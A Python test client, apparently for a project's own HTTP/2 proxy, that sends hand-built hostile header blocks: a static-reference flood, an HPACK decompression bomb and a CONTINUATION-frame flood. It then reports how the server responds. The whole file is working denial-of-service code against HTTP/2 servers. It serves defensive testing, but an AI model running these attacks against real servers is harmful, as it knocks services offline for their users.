#!/usr/bin/env python3
"""A client that sends hostile header blocks by hand (rotor issue 11).

    hostile_headers.py refs          --addr 10.96.0.10:8080
    hostile_headers.py bomb          --addr 10.96.0.10:8080 [--frames 40]
    hostile_headers.py continuations --addr 10.96.0.10:8080 [--frames 20]

refs: preface, an empty SETTINGS, never a SETTINGS ACK, and one HEADERS
(END_HEADERS|END_STREAM, stream 1): :method GET, :scheme http, :path,
:authority, then 16,000 bytes of 0x90, each a reference to the static
entry `accept-encoding: gzip, deflate` (~960 KB of header list).

bomb: the same handshake; stream 1 is a GET that adds a 4,058-byte entry
to the dynamic table (4,096 with its overhead: the table may hold that
until the client acknowledges HEADER_TABLE_SIZE=0), then --frames HEADERS
of 16,000 one-byte references to it (64 MB of header list each).

continuations: acknowledges the server's SETTINGS, then sends a GET whose
block ends with a reference to dynamic entry 63 of an empty table (a block
the agent cannot decode, which it passes on as it came) as a HEADERS frame
and --frames CONTINUATION frames of a byte or two (or none).

After the attack the client waits for answers, then asks for /whoami on
the next stream of the same connection (in `bomb` with one reference to
the entry, so that a decoder out of step with the client's table shows).
Prints one JSON line: what the server sent (SETTINGS values, per-stream
statuses and RST_STREAM codes, the GOAWAY code) and whether the
connection was closed.
"""

import argparse
import json
import socket
import struct
import sys
import time

from hpack import Decoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """Literal without indexing, name by static index (< 15), raw value."""
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


def request_head(authority):
    # :method GET, :scheme http, :path /whoami, :authority
    return b"\x82\x86" + literal(4, b"/whoami") + literal(1, authority.encode())


def string(s):
    """A raw string literal with its 7-bit-prefix length (RFC 7541 §5.2)."""
    n, out = len(s), bytearray()
    if n < 127:
        out.append(n)
    else:
        out.append(127)
        n -= 127
        while n >= 128:
            out.append(n % 128 | 0x80)
            n //= 128
        out.append(n)
    return bytes(out) + s


class Conn:
    def __init__(self, addr, timeout):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.closed = False
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.block = None  # (stream, flags, bytes) of a header block being read
        self.report = {"settings": {}, "statuses": {}, "resets": {}, "goaway": None,
                       "frames": 0, "acked": False}

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError as e:
            self.report.setdefault("send_error", str(e))
            self.closed = True
            return False

    def read_until(self, deadline, done):
        """Reads frames until done(report) or the deadline or a close."""
        while not done(self.report) and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError as e:
                self.report["recv_error"] = str(e)
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buf += data
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
            self.report["frames"] += 1
            self.on_frame(kind, flags, stream, payload)

    def on_frame(self, kind, flags, stream, payload):
        r = self.report
        if kind == SETTINGS and flags & ACK:
            r["acked"] = True
        elif kind == SETTINGS:
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                r["settings"][str(k)] = v
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            r["goaway"] = struct.unpack(">I", payload[4:8])[0]
        elif kind == RST_STREAM:
            r["resets"][str(stream)] = struct.unpack(">I", payload[:4])[0]
        elif kind == HEADERS:
            if flags & 0x8:  # PADDED
                payload = payload[1:len(payload) - payload[0]]
            if flags & 0x20:  # PRIORITY
                payload = payload[5:]
            self.block = (stream, flags, payload)
            if flags & END_HEADERS:
                self.end_block()
        elif kind == CONTINUATION and self.block:
            s, f, b = self.block
            self.block = (s, f | (flags & END_HEADERS), b + payload)
            if flags & END_HEADERS:
                self.end_block()

    def end_block(self):
        stream, _, block = self.block
        self.block = None
        try:
            fields = dict(self.decoder.decode(block, raw=True))
        except Exception as e:  # a response we cannot decode is a finding too
            self.report["statuses"].setdefault(str(stream), f"undecodable: {e}")
            return
        status = fields.get(b":status")
        if status is not None:
            self.report["statuses"].setdefault(str(stream), status.decode())


def handshake(c, ack):
    c.send(PREFACE + frame(SETTINGS, 0, 0))
    c.read_until(time.monotonic() + 3, lambda r: r["settings"] or r["frames"] > 0)
    if ack:
        c.send(frame(SETTINGS, ACK, 0))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["refs", "bomb", "continuations"])
    p.add_argument("--addr", required=True)
    p.add_argument("--frames", type=int)
    p.add_argument("--wait", type=float, default=5.0, help="seconds to wait for each answer")
    a = p.parse_args()
    start = time.monotonic()
    c = Conn(a.addr, a.wait)
    head = request_head(a.addr)
    attacked = []
    if a.mode == "refs":
        handshake(c, ack=False)
        block = head + b"\x90" * 16_000
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        attacked, follow = [1], 3
        follow_block = head
    elif a.mode == "bomb":
        handshake(c, ack=False)
        # literal with incremental indexing, new name: the table's one entry
        entry = b"\x40" + string(b"x-bomb") + string(b"b" * (4096 - 32 - 6))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, head + entry))
        bomb = head + b"\xbe" * 16_000  # dynamic index 62: the newest entry
        frames = a.frames or 40
        attacked = [3 + 2 * i for i in range(frames)]
        c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, bomb) for s in attacked))
        follow = attacked[-1] + 2
        follow_block = head + b"\xbe"
    else:
        handshake(c, ack=True)
        # the block in frames + 1 pieces of a byte or two (or none)
        block = head + b"\xbf"
        n = (a.frames or 20) + 1
        pieces = [block[i * len(block) // n:(i + 1) * len(block) // n] for i in range(n)]
        out = frame(HEADERS, END_STREAM, 1, pieces[0])
        for i, piece in enumerate(pieces[1:]):
            last = i == len(pieces) - 2
            out += frame(CONTINUATION, END_HEADERS if last else 0, 1, piece)
        c.send(out)
        attacked, follow = [1], 3
        follow_block = head
    answered = lambda r: r["goaway"] is not None or all(
        str(s) in r["statuses"] or str(s) in r["resets"] for s in attacked)
    c.read_until(time.monotonic() + a.wait, answered)
    c.report["attack_answered"] = answered(c.report)
    if not c.closed and c.report["goaway"] is None:
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, follow, follow_block))
        c.read_until(time.monotonic() + a.wait,
                     lambda r: str(follow) in r["statuses"] or str(follow) in r["resets"])
    c.report["followup"] = {"stream": follow, "status": c.report["statuses"].get(str(follow)),
                            "reset": c.report["resets"].get(str(follow))}
    c.report["attacked"] = attacked
    c.report["closed"] = c.closed
    c.report["elapsed_s"] = round(time.monotonic() - start, 3)
    print(json.dumps(c.report))


if __name__ == "__main__":
    sys.exit(main())
